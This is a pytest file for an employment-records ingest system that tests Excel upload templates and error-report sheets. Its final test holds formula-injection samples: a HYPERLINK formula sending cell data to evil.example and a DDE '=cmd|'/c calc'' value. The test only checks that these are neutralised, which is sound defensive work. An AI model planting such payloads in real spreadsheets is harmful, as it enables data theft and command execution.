"""Upload templates import cleanly as produced and as filled in; error sheets never run formulas."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from metrics.contract.records import DISTRICTS, RECORD_TYPES, Column, RecordType
from metrics.ingest import RowError, import_parsed, parse_bytes
from metrics.ingest.templates import (
    ERROR_HEADERS,
    INSTRUCTIONS_SHEET,
    choices_for,
    errors_xlsx,
    example_row,
    template_file_name,
    template_xlsx,
)
from metrics.storage.store import Store

D = dt.date


def _book(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _validations(ws) -> dict[str, object]:
    """Column letter → the data validation covering row 3 of that column."""
    found = {}
    for dv in ws.data_validations.dataValidation:
        for rng in dv.sqref.ranges:
            if rng.min_row <= 3 <= rng.max_row:
                for col in range(rng.min_col, rng.max_col + 1):
                    found[get_column_letter(col)] = dv
    return found


@pytest.mark.parametrize("record", sorted(RECORD_TYPES))
def test_template_as_produced_imports_its_example_row_without_errors_or_warnings(record: str) -> None:
    data = template_xlsx(record)
    parsed = parse_bytes(data, template_file_name(record))
    assert parsed.errors == []
    assert parsed.warnings == []
    assert parsed.record_type == record
    assert parsed.table is not None and parsed.table.num_rows == 1
    row = parsed.table.to_pylist()[0]
    for name, value in example_row(record).items():
        if isinstance(value, bool) or value in ("是", "否"):
            continue
        got = row[name]
        if isinstance(got, Decimal):
            got = float(got)
        assert got == value, name


@pytest.mark.parametrize("record", sorted(RECORD_TYPES))
def test_headers_are_chinese_with_required_ones_marked_and_red(record: str) -> None:
    rt = RECORD_TYPES[record]
    ws = _book(template_xlsx(record))[rt.title_zh]
    assert rt.title_zh in ws["A1"].value
    for j, col in enumerate(rt.columns, start=1):
        cell = ws.cell(row=2, column=j)
        if col.required:
            assert cell.value == "*" + col.header_zh
            assert cell.font.b and cell.font.color.rgb.endswith("C00000")
        else:
            assert cell.value == col.header_zh
            assert cell.font.color is None or not str(cell.font.color.rgb).endswith("C00000")
        assert ws.column_dimensions[get_column_letter(j)].width >= 8


@pytest.mark.parametrize("record", sorted(RECORD_TYPES))
def test_every_enum_bool_and_district_column_has_a_drop_down(record: str) -> None:
    rt = RECORD_TYPES[record]
    ws = _book(template_xlsx(record))[rt.title_zh]
    validations = _validations(ws)
    for j, col in enumerate(rt.columns, start=1):
        letter = get_column_letter(j)
        choices = choices_for(col)
        if not choices:
            assert validations[letter].type is None  # an input hint only, no restriction
            continue
        dv = validations[letter]
        assert dv.type == "list"
        assert dv.formula1 == '"' + ",".join(choices) + '"'
        assert dv.showDropDown in (None, False)  # openpyxl's inverted flag: False means the arrow shows
        assert dv.errorStyle in (None, "stop")
        assert any(r.max_row == 1_048_576 for r in dv.sqref.ranges)


def test_drop_down_values_are_the_spec_ones() -> None:
    placements = RECORD_TYPES["placements"]
    assert choices_for(placements.column("district")) == DISTRICTS
    assert choices_for(placements.column("is_local")) == ("是", "否")
    assert choices_for(placements.column("channel"))[0] == "公共就业服务"
    assert choices_for(placements.column("street")) == ()


def test_date_month_text_and_amount_columns_are_formatted() -> None:
    ws = _book(template_xlsx("contract_returns"))["劳动合同签订情况报表"]
    assert ws["D3"].number_format == "yyyy-mm"  # report_month
    assert ws["D3"].value == dt.datetime(2026, 3, 1)
    assert ws["A3"].number_format == "@" and ws["A3"].data_type == "s"  # credit code stays text
    ws = _book(template_xlsx("startups"))["创业主体"]
    assert ws["C3"].number_format == "yyyy-mm-dd"  # registered_date
    assert ws["H3"].number_format == "#,##0.00"  # guaranteed_loan_amount


def test_filled_template_round_trip_imports_every_row(tiny_duck: Store) -> None:
    wb = _book(template_xlsx("placements"))
    ws = wb["就业安置记录"]
    headers = [c.value.lstrip("*") for c in ws[2]]
    rt = RECORD_TYPES["placements"]
    assert headers == [c.header_zh for c in rt.columns]
    rows = [
        {
            "placement_id": "JY-2",
            "person_id": "P2",
            "district": "大兴区",
            "street": "黄村镇",
            "placement_date": dt.datetime(2026, 4, 1),
            "employer_id": "91110112786104011Q",
            "employer_name": "北京某公司",
            "channel": "直播带岗",
            "person_group": "退役军人",
            "is_local": "否",
            "is_beijing_hukou": "是",
            "contract_signed": "是",
            "contract_months": 24,
            "social_insurance": "是",
            "monthly_wage": 7200.5,
        },
        {
            "placement_id": "JY-3",
            "person_id": "P3",
            "district": "通州区",
            "street": "永顺镇",
            "placement_date": "2026年4月2日",
            "employer_id": "911101127759489808",
            "employer_name": "北京另一公司",
            "channel": "其他",
            "person_group": "其他",
            "is_local": "是",
            "is_beijing_hukou": "否",
            "contract_signed": "否",
            "social_insurance": "否",
        },
    ]
    for r, values in enumerate(rows, start=4):
        for j, col in enumerate(rt.columns, start=1):
            ws.cell(row=r, column=j, value=values.get(col.name))
    buf = io.BytesIO()
    wb.save(buf)
    parsed = parse_bytes(buf.getvalue(), "placements_2026-04.xlsx")
    assert parsed.errors == []
    assert parsed.table is not None
    got = {r["placement_id"]: r for r in parsed.table.to_pylist()}
    assert sorted(got) == ["JY-2", "JY-3", "JY202603010001"]
    assert got["JY-2"]["placement_date"] == D(2026, 4, 1)
    assert got["JY-2"]["monthly_wage"] == Decimal("7200.50")
    assert got["JY-2"]["is_local"] is False
    assert got["JY-3"]["placement_date"] == D(2026, 4, 2)
    assert got["JY-3"]["contract_months"] is None
    report = import_parsed(tiny_duck, parsed, user="hrss", unit="区人力社保局")
    assert (report.new, report.changed, report.unchanged) == (3, 0, 0)
    assert tiny_duck.count("placements") == 3


def test_instructions_sheet_describes_every_column() -> None:
    rt = RECORD_TYPES["trainings"]
    wb = _book(template_xlsx(rt.name))
    assert wb.sheetnames == [rt.title_zh, INSTRUCTIONS_SHEET]
    ws = wb[INSTRUCTIONS_SHEET]
    assert [c.value for c in ws[3]][:6] == ["表头", "英文名", "类型", "是否必填", "允许取值", "说明"]
    lines = {row[1]: row for row in ws.iter_rows(min_row=4, max_row=3 + len(rt.columns), values_only=True)}
    assert list(lines) == list(rt.column_names)
    assert lines["training_id"][:4] == ("培训记录编号", "training_id", "文本", "必填")
    assert "记录唯一标识" in lines["training_id"][5]
    assert lines["course_category"][4] == "、".join(rt.column("course_category").choices)
    assert lines["completed"][2:5] == ("是/否", "必填", "是、否")
    assert lines["district"][4] == "、".join(DISTRICTS)
    assert lines["end_date"][3] == "选填" and "结业日期不得早于开班日期" in lines["end_date"][5]
    assert lines["class_hours"][5] == "不小于 0"
    notes = [c.value for c in ws["A"] if c.value and str(c.value)[:2] in ("1.", "2.", "3.", "4.", "5.")]
    assert any("培训记录编号" in n and "唯一标识" in n for n in notes)
    assert "不早于 1990-01-01，不晚于上传当天" in lines["start_date"][5]  # happened: not in the future
    assert "1990-01-01 至 2100-12-31" in lines["end_date"][5]  # a planned end may lie ahead
    rules = [str(c.value) for c in ws["A"] if c.value and str(c.value)[:2] in ("6.", "7.")]
    assert any("千分位" in r and "1.5" in r for r in rules) and any("库中已有记录的值保持不变" in r for r in rules)


def test_a_drop_down_list_too_long_for_excel_goes_to_a_hidden_sheet() -> None:
    many = tuple(f"很长的选项名称第{i:03d}项" for i in range(40))
    rt = RecordType(
        "long_lists",
        "长列表",
        ("code",),
        (Column("code", "编号", "text"), Column("kind", "类别", "enum", choices=many)),
    )
    wb = _book(template_xlsx(rt))
    assert wb["_选项"].sheet_state == "hidden"
    assert [wb["_选项"].cell(row=i + 1, column=1).value for i in range(40)] == list(many)
    dv = _validations(wb["长列表"])["B"]
    assert dv.type == "list" and dv.formula1 == "'_选项'!$A$1:$A$40"


def test_a_template_is_rebuilt_identically_for_the_same_record_type() -> None:
    a, b = _book(template_xlsx("events")), _book(template_xlsx("events"))
    for name in a.sheetnames:
        assert [r for r in a[name].iter_rows(values_only=True)] == [r for r in b[name].iter_rows(values_only=True)]


def test_unknown_record_type_is_refused() -> None:
    with pytest.raises(KeyError, match="unknown record type"):
        template_xlsx("nonsense")


# --------------------------------------------------------------------------- error sheets


def test_error_sheet_lists_every_error_with_its_row_number() -> None:
    data = template_xlsx("trainings")
    wb = _book(data)
    ws = wb["培训记录"]
    ws["C3"] = "火星区"  # district
    ws["H3"] = "八十"  # class_hours
    buf = io.BytesIO()
    wb.save(buf)
    parsed = parse_bytes(buf.getvalue(), "trainings.xlsx")
    assert len(parsed.errors) == 2
    sheet = _book(errors_xlsx(parsed.errors, "trainings.xlsx"))["错误清单"]
    assert "trainings.xlsx" in sheet["A1"].value and "2 处错误" in sheet["A1"].value
    assert tuple(c.value for c in sheet[2]) == ERROR_HEADERS
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    assert [(r[0], r[1], r[2], r[3]) for r in rows] == [
        ("trainings.xlsx", 3, "*所属区", "火星区"),  # the header as it appears in the file
        ("trainings.xlsx", 3, "*课时", "八十"),
    ]
    assert "不是北京市的区" in rows[0][4]
    assert sheet["B3"].data_type == "n"


def test_error_sheet_neutralises_formulas_in_every_text_cell() -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    errors = [
        RowError("=cmd|'/c calc'!A1.xlsx", 5, "+列", evil, "@SUM(1)", "en"),
        RowError("ok.xlsx", None, None, "-2+3", "整个文件的问题", "whole file"),
    ]
    data = errors_xlsx(errors, "=evil.xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as z:  # no formula element anywhere in the workbook
        assert not any(re.search(rb"<f[ >]", z.read(n)) for n in z.namelist() if n.endswith(".xml"))
    sheet = _book(data)["错误清单"]
    assert sheet["A1"].value.startswith("'=evil.xlsx")
    assert sheet["A3"].value == "'=cmd|'/c calc'!A1.xlsx"
    assert sheet["C3"].value == "'+列"
    assert sheet["D3"].value == "'" + evil
    assert sheet["E3"].value == "'@SUM(1)"
    assert sheet["B3"].value == 5
    assert sheet["B4"].value is None and sheet["C4"].value is None
    assert sheet["D4"].value == "'-2+3"
    for row in sheet.iter_rows(min_row=3):
        for cell in row:
            assert cell.data_type in ("s", "n"), cell.coordinate


def test_error_sheet_with_no_errors_still_has_its_headers() -> None:
    sheet = _book(errors_xlsx([], "x.xlsx"))["错误清单"]
    assert tuple(c.value for c in sheet[2]) == ERROR_HEADERS
    assert sheet.max_row == 2
